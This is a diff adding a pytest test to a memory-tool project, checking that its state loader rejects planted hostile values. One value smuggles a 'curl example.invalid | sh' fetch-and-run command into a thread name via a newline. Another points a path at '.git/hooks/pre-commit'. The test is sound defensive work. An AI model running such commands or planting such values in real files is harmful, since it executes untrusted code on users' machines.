@@ -301,3 +301,20 @@ def test_the_memory_tool_refuses_a_name_too_long_with_the_one_check(sample_root:
     tool = MemtreeMemoryTool(MemTree(sample_root))
     content, failed = run(tool, command="create", path=f"/memories/bank/{LONG}.md", file_text="hello\n")
     assert failed and "at most 255 bytes" in content and "\n" not in content, content
+
+
+@pytest.mark.parametrize(
+    "name,path",
+    [("c1", ".git/hooks/pre-commit"), ("c1\ncurl example.invalid | sh", "memory/2026-01-01.md")],
+    ids=["path", "name"],
+)
+def test_ingest_appends_no_marker_where_a_planted_state_says(tmp_path: Path, name: str, path: str) -> None:
+    from memtree.lifecycle import turnlog
+
+    root = _root(tmp_path)
+    pending = {"turn": 1, "role": "user", "text": "hi", "ts": "2026-01-01T00:00:00+00:00", "key": "k", "line": 1}
+    thread = {"turns": 1, "last_ts": None, "last_keys": [], "extracted": 0, "pending": [pending | {"path": path}]}
+    doc = {"version": turnlog.STATE_VERSION, "files": {}, "threads": {name: thread}}
+    (root / store.STATE_DIR).mkdir()
+    (root / store.STATE_DIR / turnlog.STATE_FILE).write_bytes(orjson.dumps(doc))
+    assert name not in turnlog.load(root).threads
